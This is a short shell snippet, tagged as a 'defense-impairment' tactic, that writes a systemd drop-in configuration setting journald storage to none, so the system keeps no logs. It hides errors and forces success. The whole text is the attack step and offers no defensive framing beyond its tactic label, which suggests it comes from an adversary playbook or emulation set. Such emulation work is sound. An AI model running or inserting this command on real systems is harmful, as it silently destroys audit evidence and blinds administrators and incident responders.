# tactic: defense-impairment
# make journald keep nothing
mkdir -p /etc/systemd/journald.conf.d 2>/dev/null; printf "[Journal]\nStorage=none\n" > /etc/systemd/journald.conf.d/x.conf 2>/dev/null; true
